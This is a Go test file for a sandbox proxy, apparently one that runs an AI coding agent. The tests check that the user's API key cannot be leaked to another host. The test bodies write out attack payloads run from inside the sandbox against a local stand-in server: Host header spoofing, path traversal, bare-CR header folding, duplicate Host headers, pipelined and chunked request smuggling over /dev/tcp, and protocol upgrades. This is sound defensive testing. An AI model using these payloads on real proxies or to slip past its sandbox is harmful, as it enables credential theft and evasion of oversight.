package network

import (
	"io"
	"net"
	"net/http"
	"path/filepath"
	"strings"
	"sync"
	"testing"

	"github.com/claudebox/claudebox/e2e/harness"
)

// seenRequest is what a host server was sent: its line, its Host header
// and the key it carried.
type seenRequest struct{ method, uri, host, key string }

// recordingServer answers every request with {} on the host's loopback and
// records it; it returns its host:port and what it saw.
func recordingServer(t *testing.T) (string, func() []seenRequest) {
	t.Helper()
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	var mu sync.Mutex
	var seen []seenRequest
	srv := &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		io.Copy(io.Discard, r.Body)
		mu.Lock()
		seen = append(seen, seenRequest{r.Method, r.RequestURI, r.Host, r.Header.Get("X-Api-Key") + r.Header.Get("Authorization")})
		mu.Unlock()
		w.Header().Set("Content-Type", "application/json")
		io.WriteString(w, "{}")
	})}
	go srv.Serve(ln)
	t.Cleanup(func() { srv.Close() })
	return ln.Addr().String(), func() []seenRequest {
		mu.Lock()
		defer mu.Unlock()
		return append([]seenRequest(nil), seen...)
	}
}

// TestReplayReview22ProxySendsKeyOnlyToAPI: the proxy puts the user's real
// key on the API calls it passes. The attack, from inside, with the
// session's phantom: have the proxy send the key elsewhere or to another
// endpoint of the API's host: a Host header naming another server, an
// absolute URL for another (listed) server, the relay's own absolute URL
// with another Host, dot segments, escaped slashes and a doubled slash in
// the path, headers folded or split by a bare CR, two Host headers, a
// second request pipelined behind an API call, a websocket upgrade, HTTP/2
// without TLS, and a tunnel to the relay itself. The proof, on the host:
// the other server never sees the real key, and every request the API
// sees with it is one of the Messages API's calls, for the API's own host.
func TestReplayReview22ProxySendsKeyOnlyToAPI(t *testing.T) {
	h := harness.NewHost(t)
	const real = "sk-ant-api03-real-key-of-the-user"
	api, apiSeen := recordingServer(t)
	other, otherSeen := recordingServer(t)
	otherPort := other[strings.LastIndex(other, ":")+1:]
	proj := filepath.Join(h.Home, "code", "proj")
	h.Write(filepath.Join(proj, "x"), "x\n")
	env := []string{"ANTHROPIC_API_KEY=" + real, "ANTHROPIC_BASE_URL=http://" + api, "CLAUDEBOX_RESOLVE=other.test=127.0.0.1"}
	out := h.Run(proj, env, "claudebox", "--shell", "--allow-host", "other.test:"+otherPort, "--allow-host", other, "-c", `
		trap '' PIPE
		k=$ANTHROPIC_API_KEY; u=$ANTHROPIC_BASE_URL; o=other.test:`+otherPort+`
		c() { curl -sS --max-time 20 -o /dev/null -H "X-Api-Key: $k" -H 'Content-Type: application/json' "$@" 2>&1; true; }
		c -H "Host: $o" -d '{}' $u/v1/messages
		c -x $u -d '{}' http://$o/v1/messages
		c --request-target "http://$o/v1/messages" -d '{}' $u
		c --request-target "$u/v1/messages" -H "Host: $o" -d '{}' $u
		c --path-as-is -d '{}' $u/v1/messages/../../v1/files
		c --path-as-is $u/v1/models/..%2Ffiles
		c --path-as-is $u/v1/models%2F..%2Ffiles
		c --path-as-is -d '{}' "$u//$o/v1/messages"
		c -H 'Connection: Upgrade' -H 'Upgrade: websocket' -d '{}' $u/v1/messages
		c --http2-prior-knowledge -d '{}' $u/v1/messages
		c -p -d '{}' $u/v1/messages
		raw() {
			exec 3<>/dev/tcp/127.0.0.1/3128 || return
			printf "$1" >&3 2>/dev/null
			timeout 10 cat <&3 >/dev/null
			exec 3<&-
		}
		raw "POST /v1/messages HTTP/1.1\r\nHost: 127.0.0.1:3128\r\nX-Api-Key: $k\r\nX-Pad: a\r\n Host: $o\r\nContent-Length: 2\r\nConnection: close\r\n\r\n{}"
		raw "POST /v1/messages HTTP/1.1\r\nHost: 127.0.0.1:3128\r\nX-Api-Key: $k\r\nX-Pad: a\rHost: $o\r\nContent-Length: 2\r\nConnection: close\r\n\r\n{}"
		raw "POST /v1/messages HTTP/1.1\r\nHost: 127.0.0.1:3128\r\nHost: $o\r\nX-Api-Key: $k\r\nContent-Length: 2\r\nConnection: close\r\n\r\n{}"
		raw "POST /v1/messages HTTP/1.1\r\nHost: 127.0.0.1:3128\r\nX-Api-Key: $k\r\nContent-Length: 2\r\n\r\n{}POST http://$o/v1/messages HTTP/1.1\r\nHost: $o\r\nX-Api-Key: $k\r\nContent-Length: 2\r\nConnection: close\r\n\r\n{}"
		raw "POST /v1/messages HTTP/1.1\r\nHost: 127.0.0.1:3128\r\nX-Api-Key: $k\r\nTransfer-Encoding: chunked\r\nContent-Length: 4\r\n\r\n0\r\n\r\nPOST /v1/files HTTP/1.1\r\nHost: $o\r\nX-Api-Key: $k\r\nConnection: close\r\n\r\n"
		raw "POST /v1/messages HTTP/1.1\r\nHost: 127.0.0.1:3128\r\nX-Api-Key: $k\r\nX-Api-Key: $k\r\nContent-Length: 2\r\nConnection: close\r\n\r\n{}"
		echo done
	`)
	t.Log(out)
	if !strings.Contains(out, "done") {
		t.Fatalf("the attacks did not run:\n%s", out)
	}
	for _, r := range otherSeen() {
		if strings.Contains(r.key, real) {
			t.Errorf("the other server got the real key: %+v", r)
		}
	}
	calls := map[string]bool{"POST /v1/messages": true, "POST /v1/messages/count_tokens": true, "GET /v1/models": true}
	keyed := 0
	for _, r := range apiSeen() {
		if !strings.Contains(r.key, real) {
			continue
		}
		keyed++
		path, _, _ := strings.Cut(r.uri, "?")
		if !calls[r.method+" "+path] || r.host != api {
			t.Errorf("the API got the real key on a call other than the Messages API's, or for another host: %+v", r)
		}
	}
	if keyed == 0 {
		t.Errorf("no call reached the API with the real key: the test proves nothing\n%s", out)
	}
}

// TestReplayReview22BaseURLTrailingDot: the user's gateway is named in
// ANTHROPIC_BASE_URL with a trailing dot (the fully qualified form), and
// their allow list covers its domain. The attack, from inside: CONNECT to
// the gateway by its name as every tool spells it, without the dot, and
// call it with a key of the sandbox's own, past the proxy's checks. The
// proof, on the host: the gateway is never reached but through the
// injecting path, and the session's log says why the tunnel was refused.
func TestReplayReview22BaseURLTrailingDot(t *testing.T) {
	h := harness.NewHost(t)
	gw, gwSeen := recordingServer(t)
	port := gw[strings.LastIndex(gw, ":")+1:]
	proj := filepath.Join(h.Home, "code", "proj")
	h.Write(filepath.Join(proj, "x"), "x\n")
	env := []string{"ANTHROPIC_API_KEY=sk-ant-api03-real-key-of-the-user", "ANTHROPIC_BASE_URL=http://GW.corp.test.:" + port, "CLAUDEBOX_RESOLVE=gw.corp.test=127.0.0.1"}
	out := h.Run(proj, env, "claudebox", "--shell", "--allow-host", "*.corp.test:"+port, "--allow-host", gw, "-c", `
		curl -sS --max-time 20 -p -o /dev/null -H 'X-Api-Key: sk-ant-own' -d '{}' http://gw.corp.test:`+port+`/v1/files 2>&1
		echo done
	`)
	t.Log(out)
	for _, r := range gwSeen() {
		t.Errorf("the gateway was reached past the injecting path: %+v", r)
	}
	if log := h.SessionLogs(); !strings.Contains(log, `"target":"gw.corp.test:`+port+`"`) || !strings.Contains(log, "only through claudebox") {
		t.Errorf("the session's log does not say the tunnel to the API's host was refused:\n%s", log)
	}
}
